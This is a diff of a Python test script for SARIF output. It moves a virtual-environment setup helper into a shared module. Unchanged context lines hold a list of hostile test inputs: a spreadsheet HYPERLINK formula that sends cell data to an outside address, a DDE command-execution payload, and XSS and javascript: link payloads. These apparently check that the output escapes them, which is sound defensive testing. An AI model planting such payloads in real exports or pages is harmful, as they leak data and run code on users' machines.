@@ -20,6 +20,8 @@ import subprocess
 import sys
 
 HERE = os.path.dirname(os.path.abspath(__file__))
+sys.path.insert(0, os.path.dirname(HERE))
+from environment import environment
 PACKAGES = os.path.join(HERE, "packages.txt")
 # npm packages, and the published schema in each.
 SCHEMAS = (("@microsoft/jest-sarif@1.0.0-beta.0", "lib/schemas/sarif-2.1.0-rtm.5.json"),
@@ -30,29 +32,6 @@ HOSTILE = ('=HYPERLINK("http://192.0.2.1/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3"
            '"=1+1"', 'a, "b"\r\n=c', "plain", "semi;colon", "é=mc²",
            "<img src=x onerror=alert(1)>", "[go](javascript:alert(1))", "![x](http://192.0.2.1/)", "*a* _b_ `c` ~~d~~ # e",
            "&lt;script&gt;", "http://192.0.2.1/?q=1", "a | b | c", "\\")
-
-
-def environment(folder):
-    """The Python of an environment that has the packages; None when there is no way to get them."""
-    python = os.path.join(folder, "venv", "bin", "python")
-    done = os.path.join(folder, "venv", "installed")
-    with open(PACKAGES, encoding="utf-8") as file:
-        wanted = file.read()
-    if os.path.exists(done) and open(done, encoding="utf-8").read() == wanted:
-        return python
-    shutil.rmtree(os.path.join(folder, "venv"), ignore_errors=True)
-    # The pip at hand installs into the new environment, which needs none of its own; what is read once or twice need not
-    # be compiled ahead.
-    for command in ([sys.executable, "-m", "venv", "--without-pip", os.path.join(folder, "venv")],
-                    [sys.executable, "-m", "pip", "--python", python, "install", "--quiet", "--disable-pip-version-check",
-                     "--no-compile", "--no-deps", "--only-binary", ":all:", "--requirement", PACKAGES]):
-        result = subprocess.run(command, capture_output=True, text=True, check=False)
-        if result.returncode != 0:
-            print("skipped: %s failed: %s" % (" ".join(command[:4]), result.stderr.strip()[-300:]))
-            return None
-    with open(done, "w", encoding="utf-8") as file:
-        file.write(wanted)
-    return python
 
 
 def schemas(folder):
@@ -96,7 +75,7 @@ def numbers_of(findings, texts, schema_folder):
 def main():
     bin_folder, articles, folder = sys.argv[1:4]
     os.makedirs(folder, exist_ok=True)
-    python = environment(folder)
+    python = environment(folder, PACKAGES, "--only-binary", ":all:")
     if python is None:
         return 77
     tool = lambda name, *words, **more: subprocess.run(  # noqa: E731
